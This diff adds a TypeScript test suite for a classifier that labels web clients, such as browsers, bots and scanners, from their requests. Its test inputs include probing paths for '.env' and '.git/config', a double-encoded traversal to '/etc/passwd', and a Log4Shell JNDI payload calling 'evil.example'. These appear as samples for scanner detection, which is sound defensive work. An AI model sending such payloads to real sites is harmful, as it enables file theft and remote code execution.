@@ -1,0 +1,185 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import type { ClientClass } from '../profile/entry.ts';
+import type { Micros } from '../profile/time.ts';
+import { type ClientRequest, createClientClassifier } from './classifier.ts';
+
+const CHROME =
+  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36';
+const START = 1_760_000_000_000_000;
+const SECOND = 1e6;
+
+function request(path: string, overrides: Partial<ClientRequest> & { at?: number } = {}): ClientRequest {
+  const { at = 0, ...rest } = overrides;
+  return {
+    time: (START + at * SECOND) as Micros,
+    ip: '203.0.113.7',
+    method: 'GET',
+    url: `https://shop.example${path}`,
+    status: 404,
+    userAgent: CHROME,
+    ...rest,
+  };
+}
+
+function classesOf(requests: readonly ClientRequest[]): ClientClass[] {
+  const clients = createClientClassifier(1);
+  return requests.map((each) => clients.classify(each));
+}
+
+test.each<[ClientClass, string]>([
+  ['browser', CHROME],
+  ['bot', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
+  ['monitor', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)'],
+  ['monitor', 'kube-probe/1.33'],
+  ['tool', 'curl/8.5.0'],
+  ['scanner', 'sqlmap/1.8'],
+  ['unknown', ''],
+  ['unknown', 'Mozilla/5.0'],
+])('a client is classified as %s by its user agent "%s"', (expected, userAgent) => {
+  const ordinary = request('/environment', { userAgent, status: 200 });
+  expect(classesOf([ordinary, ordinary])).toEqual([expected, expected]);
+});
+
+test.each([
+  '/error/.env',
+  '/%2eenv',
+  '/.git/config',
+  '/api/index.php/v1/config/application?public=true',
+  '/..%252f..%252fetc/passwd',
+  '/?x=%24%7Bjndi:ldap://evil.example/a%7D',
+])('whatever the site answers, only a scanner asks for %s', (path) => {
+  expect(classesOf([request(path), request(path, { status: 200 })])).toEqual(['scanner', 'scanner']);
+});
+
+test.each([
+  '/blog/how-to-protect-.env-files',
+  '/environment',
+  '/.well-known/security.txt',
+  '/search?q=union+select',
+])('%s is an ordinary request', (path) => {
+  expect(classesOf([request(path)])).toEqual(['browser']);
+});
+
+test('one login page that is missing can be a mistake, several are not', () => {
+  const paths = ['/wp-login.php', '/wp-admin/', '/blog/wp-login.php', '/wp/wp-login.php'];
+  expect(classesOf(paths.map((path, at) => request(path, { at })))).toEqual([
+    'unknown',
+    'unknown',
+    'scanner',
+    'scanner',
+  ]);
+});
+
+test('logins of WordPress and Joomla are ordinary on sites that have them, also for those that may not use them', () => {
+  const clients = createClientClassifier(1);
+  for (const path of ['/wp-login.php', '/administrator/index.php']) {
+    clients.classify(request(path, { ip: '198.51.100.1', status: 200 }));
+    expect(clients.classify(request(path, { status: 403 }))).toBe('browser');
+  }
+  for (const path of ['/wp-admin/', '/xmlrpc.php', '/wp-json/wp/v2/users/me', '/wp-admin/index.php'])
+    expect(clients.classify(request(path, { status: 403 }))).toBe('browser');
+});
+
+test('a site that has a page for everything does not hide scanners', () => {
+  const paths = ['/wp-cron.php', '/phpmyadmin/', '/actuator/env', '/owa/', '/jolokia/list', '/xmlrpc.php'];
+  expect(classesOf(paths.map((path) => request(path, { status: 200 }))).at(-1)).toBe('scanner');
+});
+
+test('many missing paths in a short time are a scan, and the requests before are revised', () => {
+  const clients = createClientClassifier(1);
+  const scan = ['admin', 'test', 'old', 'backup', 'dev', 'beta', 'panel'].map((word, n) =>
+    request(`/${word}`, { at: n / 10 }),
+  );
+  const classes = scan.map((each) => clients.classify(each));
+  expect(classes[0]).toBe('browser');
+  expect(classes.at(-1)).toBe('scanner');
+  expect(clients.scannersFound).toBe(1);
+  for (const [n, each] of scan.entries())
+    expect(clients.revise(each, classes[n] ?? 'unknown')).toBe('scanner');
+  const home = request('/', { at: 2, status: 200 });
+  expect(clients.classify(home)).toBe('scanner');
+  expect(clients.classify({ ...home, userAgent: `${CHROME} Edg/156.0` })).toBe('browser');
+  expect(clients.classify({ ...home, ip: '203.0.113.8' })).toBe('browser');
+  expect(clients.classify({ ...home, time: (home.time + 3600e6) as Micros })).toBe('browser');
+});
+
+test('missing records, files of pages and the links of crawlers are not a scan', () => {
+  const records = Array.from({ length: 50 }, (_, n) => request(`/api/users/${n}`, { at: n / 20 }));
+  const files = Array.from({ length: 50 }, (_, n) => request(`/assets/part-${n}x.js`, { at: n / 20 }));
+  const links = 'abcdefghijklmnopqrstuvwxyz'
+    .split('')
+    .map((letter) => request(`/${letter}`, { userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0)' }));
+  for (const requests of [records, files, links]) expect(classesOf(requests)).not.toContain('scanner');
+});
+
+test('an IPv6 network of 64 bits is one client, a private network is not', () => {
+  const probes = ['/wp-login.php', '/wp-admin/', '/a/wp-login.php', '/b/wp-login.php'];
+  const from = (prefix: string) => probes.map((path, n) => request(path, { ip: `${prefix}${n + 1}` }));
+  expect(classesOf(from('2001:db8:1:2::')).at(-1)).toBe('scanner');
+  expect(classesOf(from('2001:db8::1:2:3:')).at(-1)).toBe('scanner');
+  for (const prefix of ['10.0.0.', '127.0.0.', '192.168.1.', 'fd00::', '203.0.113.'])
+    expect(classesOf(from(prefix))).not.toContain('scanner');
+  expect(classesOf(probes.map((path) => request(path, { ip: '10.0.0.1' })))).not.toContain('scanner');
+});
+
+const anyRequest = fc.record({
+  path: fc.oneof(
+    fc.webPath(),
+    fc.constantFrom('/wp-login.php', '/.env', '/admin', '/', '/a.php', '/xmlrpc.php', '/old/x', '/p/1'),
+  ),
+  status: fc.constantFrom(200, 302, 401, 403, 404, 500, 499),
+  at: fc.integer({ min: 0, max: 400 }),
+  userAgent: fc.constantFrom(CHROME, '', 'curl/8', 'bingbot/2.0'),
+});
+
+test('the class of a client does not depend on other clients, other than by what sites answer them', () => {
+  fc.assert(
+    fc.property(
+      fc.array(anyRequest, { maxLength: 60 }),
+      fc.array(anyRequest, { maxLength: 60 }),
+      (mine, others) => {
+        const own = mine.map(({ path, ...rest }) => request(path, rest));
+        const alone = classesOf(own);
+        const clients = createClientClassifier(1);
+        // The others get nothing but errors: the sites show nothing about themselves.
+        for (const { path, ...rest } of others)
+          clients.classify(
+            request(path, { ...rest, status: Math.max(400, rest.status), ip: '198.51.100.9' }),
+          );
+        expect(own.map((each) => clients.classify(each))).toEqual(alone);
+      },
+    ),
+  );
+});
+
+test('the order of requests in a batch does not change what is revised, if the site answers none of them', () => {
+  const failing = anyRequest.map(({ path, at, ...rest }) =>
+    request(path, { ...rest, at: at / 1000, status: Math.max(400, rest.status), userAgent: CHROME }),
+  );
+  const shuffled = fc
+    .array(failing, { maxLength: 30 })
+    .chain((list) => fc.tuple(fc.constant(list), fc.shuffledSubarray(list, { minLength: list.length })));
+  fc.assert(
+    fc.property(shuffled, ([list, other]) => {
+      const revised = (requests: readonly ClientRequest[]) => {
+        const clients = createClientClassifier(1);
+        for (const each of requests) clients.classify(each);
+        return list.map((each) => clients.revise(each, 'unknown') === 'scanner');
+      };
+      expect(revised(other)).toEqual(revised(list));
+    }),
+  );
+});
+
+test('memory is bounded for any number of clients', () => {
+  const clients = createClientClassifier(1);
+  const add = (from: number, to: number) => {
+    for (let n = from; n < to; n++)
+      for (const path of ['/.env', `/x${n}/wp-login.php`, '/admin'])
+        clients.classify(request(path, { ip: `11.${n >> 16}.${(n >> 8) & 255}.${n & 255}`, at: n / 1000 }));
+  };
+  add(0, 40_000);
+  expect(clients.evidence('11.0.0.1')).toBeNull();
+  expect(clients.evidence('11.0.156.63')).toMatchObject({ probes: 2, failed: 3, answered: 0 });
+});
